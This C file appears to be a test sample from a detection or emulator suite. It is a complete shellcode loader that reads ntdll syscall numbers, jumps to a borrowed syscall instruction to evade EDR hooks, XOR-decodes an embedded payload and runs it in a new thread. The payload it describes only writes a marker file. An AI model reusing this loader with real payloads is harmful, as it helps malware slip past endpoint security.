/*
 * loader.c - generality suite: a loader that makes its system calls indirectly (benign,
 * emulator-only; see ../../lineage-common/common.h), as HellsHall and SysWhispers3's "jumper"
 * loaders do to look, from the kernel's side, as if ntdll made them.
 *
 * Reads the system service numbers of NtAllocateVirtualMemory, NtProtectVirtualMemory,
 * NtCreateThreadEx and NtWaitForSingleObject from ntdll's stubs (Hell's Gate), and the address
 * of the `syscall` instruction inside another function's stub (NtDelayExecution's). Each system
 * call sets r10 and eax itself and jumps to that instruction. It allocates read-write memory in
 * its own process, XOR-decodes the payload embedded in its data there (one-byte key 0x3c),
 * makes it read-execute, runs it in a new thread and waits for it. The payload
 * (../lineage-common/payload.c) writes C:\Users\Public\lineage_indirect.txt.
 * Exit codes: 0 ok, 1 no marker, 3 no system call numbers, 4 memory, 5 thread.
 */
#include "common.h"
#include "payload.h"

typedef LONG NTSTATUS_T;
DWORD ssn_value;          /* read by isyscall */
ULONG_PTR syscall_insn;   /* the syscall instruction isyscall jumps to */

/* mov r10, rcx; mov eax, <number>; jmp <a stub's syscall; ret> */
__asm__(".text\n"
        ".globl isyscall\n"
        "isyscall:\n"
        "  mov %rcx, %r10\n"
        "  mov ssn_value(%rip), %eax\n"
        "  jmp *syscall_insn(%rip)\n");
NTSTATUS_T isyscall(ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR, ULONG_PTR,
                    ULONG_PTR, ULONG_PTR, ULONG_PTR);

static const unsigned char *stub_of(HMODULE ntdll, const char *name)
{
    const unsigned char *stub = (const unsigned char *)GetProcAddress(ntdll, name);
    if (!stub || stub[0] != 0x4C || stub[1] != 0x8B || stub[2] != 0xD1 || stub[3] != 0xB8)
        return 0; /* no stub, or a hooked one */
    return stub;
}

static int number_of(HMODULE ntdll, const char *name, DWORD *number)
{
    const unsigned char *stub = stub_of(ntdll, name);
    if (!stub)
        return 0;
    *number = *(const DWORD *)(stub + 4);
    return 1;
}

static NTSTATUS_T sys(DWORD number, ULONG_PTR a, ULONG_PTR b, ULONG_PTR c, ULONG_PTR d, ULONG_PTR e, ULONG_PTR f,
                      ULONG_PTR g, ULONG_PTR h, ULONG_PTR i, ULONG_PTR j, ULONG_PTR k)
{
    ssn_value = number;
    return isyscall(a, b, c, d, e, f, g, h, i, j, k);
}

void Entry(void)
{
    static struct sc_ctx ctx;
    DWORD n_alloc, n_protect, n_thread, n_wait, old, i;
    const unsigned char *donor;
    unsigned char *mem = 0;
    SIZE_T size;
    HANDLE thread = 0;
    HMODULE ntdll;

    if (!marker_present())
        ExitProcess(1);
    ntdll = GetModuleHandleA("ntdll.dll");
    if (!number_of(ntdll, "NtAllocateVirtualMemory", &n_alloc) || !number_of(ntdll, "NtProtectVirtualMemory", &n_protect) ||
        !number_of(ntdll, "NtCreateThreadEx", &n_thread) || !number_of(ntdll, "NtWaitForSingleObject", &n_wait))
        ExitProcess(3);
    donor = stub_of(ntdll, "NtDelayExecution");
    if (!donor)
        ExitProcess(3);
    for (i = 8; i < 30 && !syscall_insn; i++)
        if (donor[i] == 0x0F && donor[i + 1] == 0x05 && donor[i + 2] == 0xC3)
            syscall_insn = (ULONG_PTR)(donor + i);
    if (!syscall_insn)
        ExitProcess(3);
    size = sizeof(payload_enc);
    if (sys(n_alloc, (ULONG_PTR)-1, (ULONG_PTR)&mem, 0, (ULONG_PTR)&size, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE, 0, 0,
            0, 0, 0) != 0 || !mem)
        ExitProcess(4);
    for (i = 0; i < sizeof(payload_enc); i++)
        mem[i] = payload_enc[i] ^ 0x3c;
    size = sizeof(payload_enc);
    {
        PVOID base = mem;
        if (sys(n_protect, (ULONG_PTR)-1, (ULONG_PTR)&base, (ULONG_PTR)&size, PAGE_EXECUTE_READ, (ULONG_PTR)&old, 0, 0, 0,
                0, 0, 0) != 0)
            ExitProcess(4);
    }
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_indirect.txt", "run by indirect system calls\n");
    if (sys(n_thread, (ULONG_PTR)&thread, THREAD_ALL_ACCESS, 0, (ULONG_PTR)-1, (ULONG_PTR)mem, (ULONG_PTR)&ctx, 0, 0, 0, 0,
            0) != 0 || !thread)
        ExitProcess(5);
    sys(n_wait, (ULONG_PTR)thread, FALSE, 0, 0, 0, 0, 0, 0, 0, 0, 0);
    ExitProcess(0);
}
